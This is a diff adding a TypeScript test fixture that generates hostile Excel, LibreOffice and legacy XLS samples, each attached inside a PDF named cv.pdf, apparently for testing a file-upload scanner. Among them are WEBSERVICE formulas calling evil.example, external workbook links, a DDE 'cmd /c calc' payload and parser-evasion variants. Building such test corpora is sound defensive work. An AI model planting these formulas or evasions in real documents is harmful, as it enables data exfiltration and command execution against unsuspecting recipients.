@@ -1,0 +1,181 @@
+import { compoundFile } from '../../support/compound-file';
+import { docxFile } from '../../support/docx';
+import { attachedPdf } from '../../support/pdf/make';
+import { zip } from '../../support/zip';
+import type { Hostile } from './hostile';
+
+const office = 'application/vnd.openxmlformats-officedocument.spreadsheetml';
+const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
+const strict = 'http://purl.oclc.org/ooxml/spreadsheetml/main';
+const compatibility = 'http://schemas.openxmlformats.org/markup-compatibility/2006';
+const chart = 'http://schemas.openxmlformats.org/drawingml/2006/chart';
+
+/** A workbook of Excel with one part. */
+export const workbook = (part: string) =>
+  docxFile({ 'xl/a.xml': part }, { '/word/document.xml': `${office}.sheet.main+xml` });
+
+/** A part of a workbook, with prefixes for newer elements and for those that nobody knows. */
+export const sheet = (content: string, attributes = '') =>
+  `<worksheet xmlns="${main}" xmlns:mc="${compatibility}" xmlns:q="urn:q" xmlns:p="${main}" mc:Ignorable="q" ${attributes} xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns:c="${chart}">${content}</worksheet>`;
+
+/** A document of LibreOffice with prefixes for all that has formulas. */
+export const openSheet = (content: string, kind = 'spreadsheet') =>
+  zip([
+    { name: 'mimetype', data: `application/vnd.oasis.opendocument.${kind}`, method: 0 },
+    {
+      name: 'content.xml',
+      data: `<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0" xmlns:q="urn:q">${content}</office:document-content>`,
+    },
+  ]);
+
+const fetching = '_xlfn.WEBSERVICE("http://evil.example")';
+const quoted = fetching.replaceAll('"', '&quot;');
+
+/** Where Excel and its imitators have formulas, and where they may have them next. */
+const places = [
+  ...['f', 'formula', 'formula1', 'oldFormula', 'definedName', 'calculatedColumnFormula', 'nobodyKnows'].map(
+    (name) => `<${name}>${fetching}</${name}>`,
+  ),
+  ...['<p:f>', '<xm:f>', '<x14:anything>', '<q:t>', '<q:f>', '<xm:t>', '<c:f>', `<f xmlns="${strict}">`].map(
+    (tag) => `${tag}${fetching}</${tag.replace(/[<>]|\s.*$/g, '')}>`,
+  ),
+  `<cfvo type="formula" val="${quoted}"/>`,
+  `<cacheField name="a" formula="${quoted}"/>`,
+  `<definedName name="a" refersTo="${quoted}"/>`,
+  `<c q:name="${quoted}"/>`,
+  `<f>WEBSERVICE<!-- x -->(A1)</f>`,
+  `<f><![CDATA[WEBSERVICE]]>(A1)</f>`,
+];
+
+/** Formulas in pieces, which programs put together in different ways. */
+const inPieces = [
+  ...['q:x', 'p:x', 'x'].flatMap((name) => [
+    `<f><${name}/>${fetching}</f>`,
+    `<f>1+<${name}/>${fetching}</f>`,
+    `<definedName name="a"><${name}/>${fetching}</definedName>`,
+    `<v>1<${name}/></v>`,
+  ]),
+  "<f><q:x/>'http://evil.example/[a.xlsx]S'!A1</f>",
+  '<f><mc:AlternateContent><mc:Choice Requires="p">WEBSERVICE</mc:Choice></mc:AlternateContent></f>',
+  '<f mc:ProcessContent="q:x"><q:x>WEBSERVICE</q:x><q:x>("x")</q:x></f>',
+];
+
+const workbooks: [what: string, file: Buffer, because: Hostile['because']][] = [
+  ...places.map((place): (typeof workbooks)[number] => [place, workbook(sheet(place)), 'a formula that fetches']),
+  ...inPieces.map((place): (typeof workbooks)[number] => [place, workbook(sheet(place)), 'locked or broken']),
+  [
+    'text of Word in a formula',
+    workbook(
+      sheet(`<f><w:t xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${fetching}</w:t></f>`),
+    ),
+    'a formula that fetches',
+  ],
+  [
+    'a chart with a formula',
+    workbook(`<c:chartSpace xmlns:c="${chart}"><c:f>${fetching}</c:f></c:chartSpace>`),
+    'a formula that fetches',
+  ],
+  [
+    'a shape with a formula',
+    workbook(
+      `<d:wsDr xmlns:d="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"><d:sp textlink="${quoted}"/></d:wsDr>`,
+    ),
+    'a formula that fetches',
+  ],
+];
+
+const open = quoted.replace('_xlfn.', 'COM.MICROSOFT.');
+
+const inOpenDocuments = [
+  `<table:table-cell table:formula="of:=${open}"/>`,
+  `<table:table-cell q:anything="of:=${open}"/>`,
+  `<table:table-cell q:anything="msoxl:=${open}"/>`,
+  `<table:named-expression table:name="a" table:expression="of:=${open}"/>`,
+  `<table:named-expression table:name="a" table:expression="${open}"/>`,
+  `<calcext:condition calcext:value="formula-is(${open})"/>`,
+  `<calcext:formatting-entry calcext:type="formula" calcext:value="${open}"/>`,
+  `<style:map style:condition="is-true-formula(${open})"/>`,
+  `<table:content-validation table:condition="of:cell-content-is-between(1;${open})"/>`,
+  `<text:expression text:formula="ooow:${open}"/>`,
+  '<table:table-cell table:formula="of:=INDIRECT([.A1])"/>',
+  '<table:table-cell table:formula="of:=HYPERLINK(&quot;file:///c:/windows/system32/calc.exe&quot;)"/>',
+  '<table:table-cell table:formula="of:=[http://evil.example/a.ods#S.A1]"/>',
+  `<table:table-cell table:formula="msoxl:=cmd|'/c calc'!A0"/>`,
+];
+
+const asking = [
+  ...['dde-connection', 'dde-connection-decl', 'dde-connection-decls', 'database-display', 'database-next'],
+  ...['database-name', 'database-row-number', 'database-source-sql', 'execute-macro'],
+];
+
+const openSheets: typeof workbooks = [
+  ...inOpenDocuments.map((content): (typeof workbooks)[number] => {
+    return [content, openSheet(content), 'a formula that fetches'];
+  }),
+  ...asking.map((name): (typeof workbooks)[number] => [name, openSheet(`<text:${name}/>`, 'text'), 'controls']),
+];
+
+/** The first record of a workbook, of Excel 97 and of Excel 5. */
+const excel97: [number, Buffer] = [0x809, Buffer.of(0, 6, 5, 0)];
+export const excel5: [number, Buffer] = [0x809, Buffer.of(0, 5, 5, 0)];
+
+/** Records of a workbook before 2007. */
+export const oldWorkbook = (...records: [type: number, data: Buffer][]) =>
+  compoundFile({
+    Workbook: Buffer.concat(
+      [excel97, ...records].flatMap(([type, data]) => [Buffer.from(Uint16Array.of(type, data.length).buffer), data]),
+    ),
+  });
+
+/** A name of the workbook's own, and one of a function of an add-in: letters of one byte or two. */
+export const ownName = (name: string, coding: 'latin1' | 'utf16le' = 'latin1'): [number, Buffer] => {
+  const head = Buffer.alloc(15);
+  head[3] = name.length;
+  head[14] = coding === 'utf16le' ? 1 : 0;
+  return [0x18, Buffer.concat([head, Buffer.from(name, coding)])];
+};
+export const addInName = (name: string): [number, Buffer] => [
+  0x23,
+  Buffer.from(`\0\0\0\0\0\0${String.fromCharCode(name.length)}\0${name}`, 'latin1'),
+];
+
+const source = (...data: (number | string)[]): [number, Buffer] => [
+  0x1ae,
+  Buffer.concat(data.map((one) => (typeof one === 'string' ? Buffer.from(one, 'latin1') : Buffer.of(one)))),
+];
+
+const oldWorkbooks: typeof workbooks = [
+  ['a source on the web', oldWorkbook(source(1, 0, 21, 0, 0, '\x01http://evil.example/x')), 'fetched from elsewhere'],
+  [
+    'a source on a server',
+    oldWorkbook(source(1, 0, 16, 0, 0, '\x01\x01@evil\x03s\x03a.xls')),
+    'fetched from elsewhere',
+  ],
+  ['a source of one letter', oldWorkbook(source(1, 0, 1, 0, 0, 'a')), 'fetched from elsewhere'],
+  ['a source that breaks off', oldWorkbook(source(1, 0)), 'fetched from elsewhere'],
+  ['a source of Excel 5', oldWorkbook(excel5, [0x17, Buffer.from('\x05\x01cmd\x03')]), 'fetched from elsewhere'],
+  ['the name of a function', oldWorkbook(ownName('_xlfn.WEBSERVICE')), 'a formula that fetches'],
+  ['the name of a function in wide letters', oldWorkbook(ownName('_xlfn.IMAGE', 'utf16le')), 'a formula that fetches'],
+  ['the name of a function of an add-in', oldWorkbook(addInName('WEBSERVICE')), 'a formula that fetches'],
+  ...[148, 149, 150, 267, 379].map((number): (typeof workbooks)[number] => [
+    `function ${number}`,
+    oldWorkbook([0x06, Buffer.concat([Buffer.alloc(22), Buffer.of(0x42, 2, number & 0xff, number >> 8)])]),
+    'a formula that fetches',
+  ]),
+  [
+    'the name of a function of an add-in of Excel 5',
+    oldWorkbook(excel5, [0x23, Buffer.from('\0\0\0\0\0\0\x07DESKTOP')]),
+    'a formula that fetches',
+  ],
+];
+
+const attached = (end: string, files: typeof workbooks): Hostile[] =>
+  files.map(([what, file, because]) => {
+    return { what: `a PDF with a .${end} with ${what}`, name: 'cv.pdf', data: attachedPdf(`a.${end}`, file), because };
+  });
+
+export const hostileWorkbooks: Hostile[] = [
+  ...attached('xlsx', workbooks),
+  ...attached('ods', openSheets),
+  ...attached('xls', oldWorkbooks),
+];
